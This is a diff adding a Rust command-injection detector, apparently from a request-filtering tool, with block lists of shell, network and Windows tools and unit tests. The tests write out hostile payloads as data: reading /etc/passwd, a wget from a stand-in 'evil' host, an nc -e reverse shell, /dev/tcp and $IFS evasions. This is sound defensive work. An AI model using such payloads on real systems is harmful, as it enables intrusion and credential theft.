@@ -1,0 +1,367 @@
+//! Command injection: a small shell-aware scan, not a pile of regexes.
+//!
+//! The value is read the way a shell would split it: command positions are the start of the
+//! value and whatever follows a separator (`;`, `|`, `&`, a newline, `$(`, a backtick, `{`).
+//! The word at a command position is de-obfuscated the way the shell would (quotes and
+//! backslashes inside it removed: `c'a't` is `cat`, `/bin/c\at` is `cat`), and is an attack if
+//! it names a known command. Substitution, `$IFS`-style evasions, direct interpreter or network
+//! tool invocations and Windows `cmd`/PowerShell syntax have rules of their own.
+
+use super::{
+    Rule, RCE_CHAINED_COMMAND, RCE_SHELL_EVASION, RCE_SHELL_INVOCATION, RCE_SUBSTITUTION,
+    RCE_WINDOWS,
+};
+
+/// Commands an injected payload runs that are not English words: matched at any command
+/// position.
+const COMMANDS: [&str; 68] = [
+    "whoami",
+    "uname",
+    "wget",
+    "curl",
+    "nc",
+    "ncat",
+    "netcat",
+    "bash",
+    "zsh",
+    "ksh",
+    "csh",
+    "tcsh",
+    "dash",
+    "busybox",
+    "python",
+    "python2",
+    "python3",
+    "perl",
+    "php",
+    "ruby",
+    "lua",
+    "node",
+    "nodejs",
+    "nslookup",
+    "chmod",
+    "chown",
+    "chgrp",
+    "killall",
+    "pkill",
+    "printenv",
+    "grep",
+    "egrep",
+    "awk",
+    "gawk",
+    "sed",
+    "xargs",
+    "telnet",
+    "ssh",
+    "scp",
+    "ftp",
+    "tftp",
+    "base64",
+    "xxd",
+    "nohup",
+    "crontab",
+    "sudo",
+    "passwd",
+    "useradd",
+    "ifconfig",
+    "netstat",
+    "systemctl",
+    "reboot",
+    "shutdown",
+    "mkfifo",
+    "mknod",
+    "gcc",
+    "tar",
+    "whereis",
+    "hostname",
+    "lsof",
+    "socat",
+    "openssl",
+    "sftp",
+    "ls",
+    "id",
+    "pwd",
+    "sh",
+    "ps",
+];
+
+/// Commands that are also English words (`head`, `sleep`, `cat`): matched only when what
+/// follows looks like shell arguments (an option, a path, a number, a variable) or nothing.
+const WORD_COMMANDS: [&str; 22] = [
+    "cat", "tac", "head", "tail", "more", "less", "find", "host", "sleep", "touch", "kill", "env",
+    "dig", "ping", "which", "eval", "exec", "printf", "tee", "rm", "cp", "mv",
+];
+
+/// Interpreters and tools that, invoked with these flags, run arbitrary code or open a shell.
+const INVOCATIONS: [&str; 12] = [
+    "sh -c",
+    "bash -c",
+    "ksh -c",
+    "zsh -c",
+    "dash -c",
+    "nc -e",
+    "ncat -e",
+    "python -c",
+    "perl -e",
+    "php -r",
+    "ruby -e",
+    "/dev/tcp/",
+];
+
+/// Windows shell syntax.
+const WINDOWS: [&str; 14] = [
+    "cmd /c",
+    "cmd.exe",
+    "cmd /k",
+    "powershell",
+    "pwsh",
+    "iex(",
+    "invoke-expression",
+    "invoke-webrequest",
+    "%comspec%",
+    "certutil -urlcache",
+    "bitsadmin",
+    "wmic ",
+    "for /f",
+    "rundll32",
+];
+
+/// The command-injection rules that match a decoded value.
+pub fn detect(decoded: &[u8]) -> Vec<Rule> {
+    let text = String::from_utf8_lossy(decoded).to_ascii_lowercase();
+    let mut out = Vec::new();
+    if has_substitution(&text) {
+        out.push(RCE_SUBSTITUTION);
+    }
+    if command_positions(&text)
+        .into_iter()
+        .any(|start| names_command(text.get(start..).unwrap_or_default()))
+    {
+        out.push(RCE_CHAINED_COMMAND);
+    }
+    if has_shell_evasion(&text) {
+        out.push(RCE_SHELL_EVASION);
+    }
+    let squeezed = squeeze_spaces(&text);
+    if INVOCATIONS.iter().any(|i| squeezed.contains(i)) {
+        out.push(RCE_SHELL_INVOCATION);
+    }
+    if WINDOWS.iter().any(|w| squeezed.contains(w)) || has_windows_if(&squeezed) {
+        out.push(RCE_WINDOWS);
+    }
+    out
+}
+
+/// Offsets where a shell would expect a command: after `;`, `|`, `&`, a newline, `` ` ``,
+/// `$(`, `{`, `(`. The start of the value is not one: a plain word there is ordinary input.
+fn command_positions(text: &str) -> Vec<usize> {
+    let bytes = text.as_bytes();
+    let mut out = Vec::new();
+    for (i, b) in bytes.iter().enumerate() {
+        let separator = match b {
+            b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'{' => true,
+            b'(' => i > 0 && bytes.get(i - 1) == Some(&b'$'),
+            _ => false,
+        };
+        if separator {
+            out.push(i + 1);
+        }
+    }
+    out
+}
+
+/// Whether the word at the start of `rest` (after blanks, quotes, redirections) names a known
+/// command once de-obfuscated. A path prefix is allowed: `/bin/cat`, `/usr/bin/id`.
+fn names_command(rest: &str) -> bool {
+    let rest = rest.trim_start_matches(|c: char| {
+        c.is_ascii_whitespace() || matches!(c, '&' | '|' | ';' | '(' | '{' | '!' | '<' | '>')
+    });
+    let end = rest
+        .find(|c: char| {
+            c.is_ascii_whitespace()
+                || matches!(c, ';' | '|' | '&' | '<' | '>' | ')' | '}' | ',' | '`')
+        })
+        .unwrap_or(rest.len());
+    let word: String = rest
+        .get(..end)
+        .unwrap_or_default()
+        .chars()
+        .filter(|c| !matches!(c, '\'' | '"' | '\\'))
+        .collect();
+    let word = word.trim_start_matches('$');
+    let name = word.rsplit('/').next().unwrap_or(word);
+    let name = name.split(['$', '{']).next().unwrap_or(name);
+    if name.is_empty() {
+        return false;
+    }
+    if COMMANDS.contains(&name) {
+        return true;
+    }
+    WORD_COMMANDS.contains(&name) && shell_like_arguments(rest.get(end..).unwrap_or_default())
+}
+
+/// Nothing, or a first argument an English sentence would not have: `-n`, `/etc`, `5`, `$x`,
+/// `~`, `.`, a redirection or a separator.
+fn shell_like_arguments(after: &str) -> bool {
+    let arg = after.trim_start_matches([' ', '\t']);
+    match arg.chars().next() {
+        None => true,
+        Some(c) => {
+            c.is_ascii_digit()
+                || matches!(
+                    c,
+                    '-' | '/'
+                        | '$'
+                        | '~'
+                        | '.'
+                        | '<'
+                        | '>'
+                        | ';'
+                        | '|'
+                        | '&'
+                        | '`'
+                        | '\''
+                        | '"'
+                        | '\n'
+                        | '\r'
+                        | '*'
+                        | '{'
+                )
+        }
+    }
+}
+
+/// `$(…)` or a backtick pair with something inside.
+fn has_substitution(text: &str) -> bool {
+    let dollar = text.match_indices("$(").any(|(i, _)| {
+        text.get(i + 2..)
+            .is_some_and(|r| r.contains(')') && names_command(r))
+    });
+    let backticks = text.matches('`').count() >= 2
+        && text.split('`').nth(1).is_some_and(names_command);
+    dollar || backticks
+}
+
+/// `$IFS`, `${IFS}`, brace expansion with a comma (`{cat,/etc/passwd}`), `$@`/`$9` splitting a
+/// command word (`ca$@t`), and a known command spelled with quotes or backslashes.
+fn has_shell_evasion(text: &str) -> bool {
+    if text.contains("$ifs") || text.contains("${ifs") || text.contains("$'\\x") {
+        return true;
+    }
+    let brace = text.match_indices('{').any(|(i, _)| {
+        let inner = text
+            .get(i + 1..)
+            .and_then(|r| r.split('}').next())
+            .unwrap_or_default();
+        inner.contains(',') && names_command(&inner.replacen(',', " ", 1))
+    });
+    if brace {
+        return true;
+    }
+    // A command word glued together from pieces: c'a't, c\at, ca$@t, w"h"oami.
+    text.split(|c: char| c.is_ascii_whitespace() || matches!(c, ';' | '|' | '&'))
+        .any(|word| {
+            let obfuscated =
+                word.contains(['\'', '"', '\\']) || word.contains("$@") || word.contains("$9");
+            let cleaned: String = word
+                .replace("$@", "")
+                .replace("$9", "")
+                .chars()
+                .filter(|c| !matches!(c, '\'' | '"' | '\\'))
+                .collect();
+            let name = cleaned.rsplit('/').next().unwrap_or(&cleaned);
+            obfuscated
+                && cleaned != word
+                && name.len() > 1
+                && (COMMANDS.contains(&name) || WORD_COMMANDS.contains(&name))
+        })
+}
+
+/// `if /i`, `if not exist`, `if defined`: cmd.exe's `if` forms.
+fn has_windows_if(squeezed: &str) -> bool {
+    [
+        "if /i ",
+        "if not exist",
+        "if exist ",
+        "if defined ",
+        "if errorlevel",
+    ]
+    .iter()
+    .any(|p| squeezed.contains(p))
+}
+
+fn squeeze_spaces(text: &str) -> String {
+    let mut out = String::with_capacity(text.len());
+    let mut last_space = false;
+    for c in text.chars() {
+        let space = c.is_ascii_whitespace();
+        if !(space && last_space) {
+            out.push(if space { ' ' } else { c });
+        }
+        last_space = space;
+    }
+    out
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::decode::decode_fully;
+
+    fn ids(v: &str) -> Vec<&'static str> {
+        detect(&decode_fully(v.as_bytes(), true, true))
+            .into_iter()
+            .map(|r| r.id)
+            .collect()
+    }
+
+    #[test]
+    fn chained_commands() {
+        for v in [
+            "127.0.0.1; cat /etc/passwd",
+            "x|id",
+            "x && whoami",
+            "x%0Auname+-a",
+            "a;/bin/cat /etc/shadow",
+            "a; c'a't /etc/passwd",
+            "a;w\\hoami",
+            "foo||wget http://evil/x",
+        ] {
+            assert!(ids(v).contains(&"rce-001"), "{v}: {:?}", ids(v));
+        }
+    }
+
+    #[test]
+    fn substitution_evasion_invocation_windows() {
+        assert!(ids("$(whoami)").contains(&"rce-002"));
+        assert!(ids("`id`").contains(&"rce-002"));
+        assert!(ids("cat${IFS}/etc/passwd").contains(&"rce-003"));
+        assert!(ids("{cat,/etc/passwd}").contains(&"rce-003"));
+        assert!(ids("ca$@t /etc/passwd").contains(&"rce-003"));
+        assert!(ids("bash -c 'id'").contains(&"rce-004"));
+        assert!(ids("x; nc -e /bin/sh 1.2.3.4 4444").contains(&"rce-004"));
+        assert!(ids("exec 5<>/dev/tcp/1.2.3.4/80").contains(&"rce-004"));
+        assert!(ids("cmd.exe /c dir").contains(&"rce-005"));
+        assert!(ids("powershell -enc AAAA").contains(&"rce-005"));
+        assert!(ids("IF /I \"%var%\"==\"x\" ( ECHO found )").contains(&"rce-005"));
+    }
+
+    #[test]
+    fn ordinary_text_passes() {
+        for v in [
+            "cat food & dog food",
+            "Tom & Jerry; the movie",
+            "id=42&sort=asc",
+            "fish | chips",
+            "I said: ls is a command",
+            "price $(USD)",
+            "{a,b}",
+            "rock'n'roll",
+            "it's here",
+            "ps: see you",
+            "lunch; head to the office",
+        ] {
+            assert!(ids(v).is_empty(), "{v}: {:?}", ids(v));
+        }
+    }
+}
